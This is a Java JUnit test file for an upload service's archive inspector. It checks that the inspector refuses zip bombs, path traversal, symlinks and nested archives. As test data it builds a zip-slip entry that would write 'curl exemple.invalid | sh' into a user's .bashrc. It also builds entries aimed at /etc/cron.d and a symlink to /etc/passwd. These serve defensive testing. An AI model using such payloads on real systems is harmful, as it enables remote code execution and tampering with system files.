package org.relais.platform.upload;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.relais.search.extraction.SampleFiles;

/** Hostile archives, generated small, each refused with its reason and nothing written to disk. */
@Timeout(30)
class ArchiveInspectorTest {
    /** 100 entries, 8 MiB decompressed, ratio 100, two levels of nesting. */
    private static final UploadPolicy POLICY =
            new UploadPolicy(50L << 20, 200L << 20, 100, 8L << 20, 100, 2);

    @TempDir Path folder;

    private final ArchiveInspector inspector = new ArchiveInspector(POLICY);

    private Path file(byte[] content) throws IOException {
        return Files.write(folder.resolve("archive.zip"), content);
    }

    private String refusal(byte[] archive) throws IOException {
        Path upload = file(archive);
        UploadRefused refused =
                assertThrows(UploadRefused.class, () -> inspector.inspect("kit.zip", upload));
        assertEquals("kit.zip", refused.fileName());
        assertEquals(422, refused.status());
        return refused.reason();
    }

    private static byte[] text(String content) {
        return HostileFiles.utf8(content);
    }

    @Test
    void acceptsAKitFolderWithANestedArchiveWithinTheDepth() throws IOException {
        byte[] inner = SampleFiles.zip(new String[] {"photos/atelier.png"}, SampleFiles.png());
        byte[] kit =
                SampleFiles.zip(
                        new String[] {"kit/deroule.odt", "kit/photos.zip", "kit/lisez-moi.txt"},
                        SampleFiles.odt("Déroulé"),
                        inner,
                        text("Bonjour"));

        ArchiveSummary summary = inspector.inspect("kit.zip", file(kit));

        // the ODT is a ZIP too: its three entries count, as do the nested photo archive's
        assertEquals(7, summary.entries());
        assertTrue(summary.contains("kit/photos.zip"));
        assertFalse(summary.contains("photos/atelier.png"), "nested names are not the outer's");
        try (Stream<Path> left = Files.list(folder)) {
            assertEquals(1, left.count(), "nothing was extracted to disk");
        }
    }

    @Test
    void refusesAnEntryThatDecompressesBeyondTheRatio() throws IOException {
        // 4 MiB of one letter compress to about 4 KB: a ratio near 1000
        assertEquals("upload.archive.ratio", refusal(SampleFiles.flatBomb(4)));
    }

    @Test
    void refusesMoreDecompressedBytesThanAllowedEvenAtAModestRatio() throws IOException {
        byte[] noisy = new byte[1 << 20];
        new java.util.Random(42).nextBytes(noisy);
        byte[][] files = new byte[9][];
        String[] names = new String[9];
        for (int i = 0; i < 9; i++) {
            names[i] = "video-" + i + ".bin";
            files[i] = noisy;
        }
        assertEquals("upload.archive.too-large", refusal(SampleFiles.zip(names, files)));
    }

    @Test
    void refusesTheClassicNestedBomb() throws IOException {
        // 10^3 text files in three levels of archives (depth 2, allowed): stopped by the count
        assertEquals("upload.archive.too-many-entries", refusal(SampleFiles.nestedBomb(3, 10)));
        // four levels: stopped by the depth
        assertEquals("upload.archive.too-deep", refusal(SampleFiles.nestedBomb(4, 2)));
    }

    @Test
    void refusesArchivesNestedBeyondTheDepth() throws IOException {
        byte[] level = SampleFiles.zip(new String[] {"fond.txt"}, text("au fond"));
        for (int depth = 1; depth <= 2; depth++) {
            level = SampleFiles.zip(new String[] {"niveau" + depth + ".zip"}, level);
        }
        // the outer archive holds niveau2.zip (depth 1) holding niveau1.zip (depth 2): allowed
        inspector.inspect("kit.zip", file(level));

        byte[] deeper = SampleFiles.zip(new String[] {"niveau3.zip"}, level);
        assertEquals("upload.archive.too-deep", refusal(deeper));
    }

    @Test
    void refusesTooManyEntries() throws IOException {
        String[] names = new String[101];
        byte[][] files = new byte[101][];
        for (int i = 0; i < names.length; i++) {
            names[i] = "fiche-" + i + ".txt";
            files[i] = text("fiche " + i);
        }
        assertEquals("upload.archive.too-many-entries", refusal(SampleFiles.zip(names, files)));
    }

    @Test
    void refusesAZipSlipPath() throws IOException {
        byte[] slip =
                SampleFiles.zip(
                        new String[] {"kit/ok.txt", "kit/../../../home/anne/.bashrc"},
                        text("ok"),
                        text("curl exemple.invalid | sh"));
        assertEquals("upload.archive.unsafe-path", refusal(slip));
    }

    @Test
    void refusesBackslashTraversalAndAbsolutePaths() throws IOException {
        assertEquals(
                "upload.archive.unsafe-path",
                refusal(SampleFiles.zip(new String[] {"..\\..\\win.ini"}, text("x"))));
        assertEquals(
                "upload.archive.unsafe-path",
                refusal(SampleFiles.zip(new String[] {"/etc/cron.d/relais"}, text("x"))));
        assertEquals(
                "upload.archive.unsafe-path",
                refusal(SampleFiles.zip(new String[] {"C:/Windows/system.ini"}, text("x"))));
    }

    @Test
    void refusesASymbolicLink() throws IOException {
        assertEquals(
                "upload.archive.symlink",
                refusal(HostileFiles.symlinkZip("kit/documents", "/etc/passwd")));
    }

    @Test
    void refusesAnotherArchiveFormatInside() throws IOException {
        byte[] gzip = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0};
        assertEquals(
                "upload.archive.other-format",
                refusal(SampleFiles.zip(new String[] {"sauvegarde.tar.gz"}, gzip)));
    }

    @Test
    void refusesATruncatedArchive() throws IOException {
        byte[] kit = SampleFiles.zip(new String[] {"a.txt", "b.txt"}, text("a"), text("b"));
        assertEquals("upload.archive.unreadable", refusal(Arrays.copyOf(kit, kit.length - 30)));
    }

    @Test
    void countsTheBytesActuallyDecompressedNotTheDeclaredSizes() throws IOException {
        byte[] content = text("Atelier : créer sa boîte mail. ".repeat(20));
        ArchiveSummary summary =
                inspector.inspect(
                        "kit.zip", file(SampleFiles.zip(new String[] {"a.txt"}, content)));
        assertEquals(content.length, summary.uncompressedBytes());
        assertArrayEquals(new Object[] {1}, new Object[] {summary.entries()});
    }

    @Test
    void recognisesUnsafePaths() {
        assertTrue(ArchiveInspector.unsafePath("a/../../b"));
        assertTrue(ArchiveInspector.unsafePath(".."));
        assertTrue(ArchiveInspector.unsafePath("\\\\serveur\\partage"));
        assertFalse(ArchiveInspector.unsafePath("kit/..fiche.txt"));
        assertFalse(ArchiveInspector.unsafePath("kit/fiche..txt"));
        assertFalse(ArchiveInspector.unsafePath("kit/sous-dossier/"));
    }
}
